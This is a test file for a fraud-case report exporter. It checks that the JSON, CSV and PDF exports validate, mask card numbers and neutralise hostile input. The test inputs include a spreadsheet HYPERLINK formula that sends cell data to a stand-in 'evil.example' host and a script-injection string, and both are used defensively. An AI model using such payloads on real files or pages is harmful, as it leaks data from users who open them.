@@ -1,0 +1,162 @@
+"""engine.report: the exports parsed back and checked field by field against the case."""
+
+from __future__ import annotations
+
+import io
+import json
+
+import jsonschema
+import pandas as pd
+import pytest
+import torch
+
+from engine import case_view as cv
+from engine import report as rp
+from engine.cases import CaseStore
+from engine.checkpoint import ModelBundle, build_model, save_checkpoint
+from engine.features import FeatureEncoder
+
+EVIL_MERCHANT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+EVIL_NOTE = '=HYPERLINK("http://evil.example","x") <script>alert(1)</script> card 4111111111111111'
+CARD = "4111111111111111"
+
+
+@pytest.fixture(scope="module")
+def world(tmp_path_factory):
+    d = tmp_path_factory.mktemp("report")
+    data = d / "tx.csv"
+    with open(cv.DEMO_DATA, encoding="utf-8") as f:
+        data.write_text("".join(next(f) for _ in range(401)), encoding="utf-8")
+    src = cv.load_source(data, cv.demo_spec_name())
+    enc = FeatureEncoder.fit(src.frame, src.spec)
+    model = build_model(enc, seed=2, d_model=16, n_heads=2, n_layers=2, d_ff=32, dropout=0.0,
+                        context_length=8, min_history=4)
+    with torch.no_grad():
+        g = torch.Generator().manual_seed(0)
+        for p in model.parameters():
+            p.add_(torch.randn(p.shape, generator=g) * 0.3)
+    meta = {"name": "tiny-report", "thresholds": {"review": 0.5, "decline": 0.8},
+            "training_data": {"path": "x.csv", "sha256": "ab" * 32},
+            "metrics": {"test": {"n": 100, "n_fraud": 4, "threshold": 0.5, "precision": 0.25, "recall": 0.5}}}
+    save_checkpoint(ModelBundle(model=model, encoder=enc, spec=src.spec, meta=meta), d / "model")
+    bundle = cv.load_model(d / "model")
+    frame = src.frame.copy()
+    scores = cv.score_source(bundle, frame)
+    ranking = cv.rank_entities(scores, bundle.threshold)
+    entity = ranking["entity_id"].iloc[0]
+    tl = cv.entity_timeline(frame, scores, entity, bundle.threshold)
+    query = cv.default_query(tl)
+    expls = cv.explain_query(bundle, frame, query)
+    ctx = cv.context_rows(expls, frame).copy()
+    # hostile text in the data: a formula merchant name and a card number in the city
+    ctx.loc[ctx.index[0], "merchant"] = EVIL_MERCHANT
+    ctx.loc[ctx.index[-1], "merchant_city"] = f"card {CARD}"
+    store = CaseStore(d / "cases.sqlite3", four_eyes=False)
+    store.upsert_cases(bundle.sha256, pd.DataFrame([{
+        "entity_id": entity, "max_probability": float(ranking["max_probability"].iloc[0]),
+        "max_transaction_id": query, "first_ts": tl["timestamp"].min(), "last_ts": tl["timestamp"].max(),
+        "max_amount": float(tl["amount"].max()), "n_transactions": len(tl), "n_known_fraud": 0}]))
+    case_id = int(store.queue(bundle.sha256, 0.0).case_id.iloc[0])
+    store.record_disposition(case_id, "escalate", EVIL_NOTE, analyst="alice")
+    store.add_note(case_id, "follow-up <b>bold?</b>", analyst="bob")
+    case = store.get_case(case_id)
+    probs = dict(zip(tl["transaction_id"], tl["probability"]))
+    report = rp.build_report(
+        case=case, entity_id=entity, model=bundle,
+        dataset={"spec": src.spec.name, "file_name": data.name, "file_sha256": src.file_sha256, "max_rows": None,
+                 "currency": src.currency},
+        expls=expls, context=ctx, thresholds={"review": 0.5, "decline": 0.8, "source": "checkpoint"},
+        history=store.history(case_id), notes=store.notes(case_id), scored_at="2024-01-01T00:00:00",
+        probabilities=probs, trust={"faithfulness": {"aopc": 0.1}}, salt="test-salt", exported_by="alice",
+        threshold_quality=rp.threshold_metrics(scores, {"review": 0.5, "decline": 0.8}, bundle.meta),
+    )
+    return {"report": report, "bundle": bundle, "case": case, "entity": entity, "query": query, "expls": expls,
+            "ctx": ctx, "tl": tl, "store": store, "case_id": case_id}
+
+
+def test_json_validates_and_matches_case(world):
+    r, b = world["report"], world["bundle"]
+    data = json.loads(rp.to_json(r))
+    jsonschema.validate(data, rp.load_schema(), cls=jsonschema.Draft202012Validator)
+    assert rp.verify_report(data)
+    assert data["case"]["case_id"] == world["case_id"]
+    assert data["case"]["entity_pseudonym"] == rp.pseudonymise(world["entity"], "test-salt")
+    assert world["entity"] not in json.dumps(data["case"])
+    assert data["model"]["sha256"] == b.sha256
+    assert data["model"]["name"] == "tiny-report"
+    assert data["model"]["training_data"]["sha256"] == "ab" * 32
+    e = world["expls"]["integrated_gradients"]
+    assert data["score"]["logit"] == pytest.approx(e.score_logit)
+    assert data["score"]["probability"] == pytest.approx(e.score_probability)
+    assert data["score"]["decision_band"] == rp.decision_band(e.score_probability, 0.5, 0.8)
+    assert data["score"]["thresholds"]["review"] == 0.5 and data["score"]["thresholds"]["decline"] == 0.8
+    assert [t["transaction_id"] for t in data["transactions"]] == [cv.mask(t) for t in e.transaction_ids]
+    assert data["transactions"][-1]["is_query"]
+    assert data["transactions"][-1]["amount"] == pytest.approx(float(world["ctx"]["amount"].iloc[-1]))
+    ig = data["explanations"]["integrated_gradients"]
+    assert ig["values"] == pytest.approx(list(e.values))
+    assert ig["convergence_delta"] == pytest.approx(e.convergence_delta)
+    assert data["explanations"]["attention"]["is_attribution"] is False
+    assert "not attributions" in data["attention_caveat"]
+    assert data["disposition"]["latest"] == "escalate" and data["disposition"]["reviewers"] == ["alice", "bob"]
+    assert data["trust"]["faithfulness"]["aopc"] == 0.1
+    # card numbers masked everywhere
+    text = json.dumps(data)
+    assert CARD not in text and "411111******1111" in text
+    assert data["threshold_quality"]["source"].startswith("recomputed")
+
+
+def test_sha_changes_with_content(world):
+    r = dict(world["report"])
+    r["score"] = {**r["score"], "probability": 0.0}
+    assert not rp.verify_report(r)
+    bad = {**world["report"], "report_sha256": "x"}
+    with pytest.raises(jsonschema.ValidationError):
+        rp.validate(bad)
+
+
+def test_csv_parsed_and_neutralised(world):
+    r = world["report"]
+    df = pd.read_csv(io.BytesIO(rp.to_csv(r)), dtype=str, keep_default_na=False)
+    e = world["expls"]["integrated_gradients"]
+    assert len(df) == len(e.transaction_ids)
+    assert df["report_id"].unique().tolist() == [r["report_id"]]
+    assert df["case_id"].unique().tolist() == [str(world["case_id"])]
+    assert df["model_sha256"].unique().tolist() == [world["bundle"].sha256]
+    assert df["merchant"].iloc[0] == "'" + EVIL_MERCHANT
+    assert df["disposition_note"].iloc[0].startswith("'=HYPERLINK")
+    for col in df.columns:
+        assert not df[col].str.startswith(("=", "+", "@")).any(), col
+    assert [float(x) for x in df["attr:integrated_gradients"]] == pytest.approx(list(e.values))
+    assert CARD not in df.to_csv()
+
+
+def test_pdf_text(world):
+    from pypdf import PdfReader
+
+    r = world["report"]
+    pdf = rp.to_pdf(r, images={}, image_error="test: no charts")
+    text = "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)
+    flat = " ".join(text.split())
+    assert r["report_id"] in flat and r["report_sha256"] in flat.replace(" ", "") or r["report_sha256"][:32] in flat
+    assert r["model"]["sha256"][:32] in flat.replace(" ", "")
+    assert f"case {world['case_id']}" in flat
+    assert "table-only" in flat
+    assert "<script>alert(1)</script>" in flat  # written literally, not interpreted
+    assert CARD not in flat.replace(" ", "") and "411111******1111" in flat
+    assert r["case"]["entity_pseudonym"] in flat
+
+
+def test_pdf_with_charts_from_dashboard_figures(world):
+    figs = rp.report_figures(world["expls"], world["tl"], 0.5)
+    assert "Timeline" in figs
+    images, err = rp.render_pngs(figs)
+    if err:
+        pytest.skip(f"kaleido cannot render here: {err}")
+    assert all(png[:8] == b"\x89PNG\r\n\x1a\n" for png in images.values())
+    pdf = rp.to_pdf(world["report"], images=images)
+    from pypdf import PdfReader
+
+    reader = PdfReader(io.BytesIO(pdf))
+    n_images = sum(len(p.images) for p in reader.pages)
+    assert n_images == len(images)
